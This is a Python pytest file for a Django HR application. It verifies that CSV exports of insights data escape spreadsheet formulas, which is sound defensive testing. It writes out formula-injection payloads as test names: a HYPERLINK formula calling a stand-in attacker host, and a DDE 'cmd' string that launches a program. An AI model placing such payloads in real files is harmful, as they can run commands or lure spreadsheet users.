"""Every insights CSV export escapes cells that a spreadsheet would run as a formula: team,
person and reward names are typed by people and end up in HR's spreadsheet."""

from __future__ import annotations

import csv
import io
import re

import pytest
from django.test import Client

from core.csv_export import FORMULA_START
from insights.services import insights_recompute
from people.models import Team, User
from rewards.models import Reward

EXPORTS = (
    "segments",
    "segments-by-team",
    "flows",
    "most-wanted",
    "unwanted",
    "fairness-team",
    "fairness-supervisor",
    "fairness-employment-type",
)
PLAIN_NUMBER = re.compile(r"[+-]?\d+(?:[.,]\d+)?(?: ?%)?")


def cells(response) -> list[str]:
    assert response.status_code == 200
    rows = csv.reader(io.StringIO(response.content.decode("utf-8-sig")))
    return [cell for row in rows for cell in row]


@pytest.mark.django_db
def test_no_export_writes_a_formula(crew, small_population) -> None:
    # given: names that are formulas, everywhere a name can go
    for team in Team.objects.filter(name__startswith="pop team"):
        team.name = f'=HYPERLINK("http://evil.example/{team.pk}","x")'
        team.save(update_fields=["name"])
    User.objects.filter(username__startswith="pop").update(display_name="+cmd|' /C calc'!A0")
    User.objects.filter(role="supervisor").update(display_name="@SUM(1+1)")
    Reward.objects.update(name_fi="-1+2", name_en="-1+2")
    assert insights_recompute() is not None
    client = Client(HTTP_ACCEPT_LANGUAGE="en")
    client.force_login(crew.hr)
    # when
    exported = {slug: cells(client.get(f"/hr/insights/export/{slug}.csv")) for slug in EXPORTS}
    exported["people"] = cells(client.get("/hr/insights/people/", {"format": "csv", "months": 24}))
    # then
    everything = [cell for found in exported.values() for cell in found]
    assert any(cell.startswith("'=HYPERLINK(") for cell in everything)
    assert any(cell.startswith("'+cmd|") for cell in exported["people"])
    for slug, found in exported.items():
        for cell in found:
            if cell.startswith(FORMULA_START):
                assert PLAIN_NUMBER.fullmatch(cell), (slug, cell)
